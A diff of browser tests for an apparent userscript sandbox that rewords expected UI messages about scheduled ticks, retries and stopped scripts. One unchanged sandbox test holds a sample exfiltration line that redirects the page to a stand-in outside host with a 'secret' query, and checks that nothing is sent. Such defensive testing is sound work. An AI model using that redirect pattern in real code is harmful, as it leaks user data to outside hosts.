@@ -86,13 +86,13 @@ test('a request to a host that is not listed is for the reader to allow', async 
 test('the clock of a scheduled script moves to its next tick', async ({page, site}) => {
   const code = 'console.log("hour", new Date().getHours(), new Date().getMinutes());';
   await open(site, code, '@crontab 30 4 * * *');
-  await page.getByRole('button', {name: /Move to the next tick/}).click();
+  await page.getByRole('button', {name: /Move to the next time/}).click();
   await expect(log(page)).toContainText('hour 4 30');
 });
 
 test('a background script may ask for another try', async ({page, site}) => {
   await run(page, site, 'throw new CATRetryError("later", 60);', '@background');
-  await expect(page.getByText(/asks to be tried again/)).toBeVisible();
+  await expect(page.getByText(/asks for a retry/)).toBeVisible();
 });
 
 test('an endless loop is stopped, and the page goes on working', async ({page, site}) => {
@@ -166,7 +166,7 @@ test.describe('the page around the frame survives', () => {
 
   test('an endless loop inside eval', async ({page, site}) => {
     await run(page, site, 'eval("for(;;){}");');
-    await expect(page.getByText('Did not respond and was stopped')).toBeVisible({timeout: 15_000});
+    await expect(page.getByText('Didn’t respond and was stopped')).toBeVisible({timeout: 15_000});
   });
 });
 
@@ -291,7 +291,7 @@ test.describe('the sandbox', () => {
       'window.location.href = "https://outside.example/?secret";',
       '@grant none',
     );
-    await expect(page.getByText('Did not respond and was stopped')).toBeVisible({timeout: 15_000});
+    await expect(page.getByText('Didn’t respond and was stopped')).toBeVisible({timeout: 15_000});
     expect(sent).toEqual([]);
   });
 });
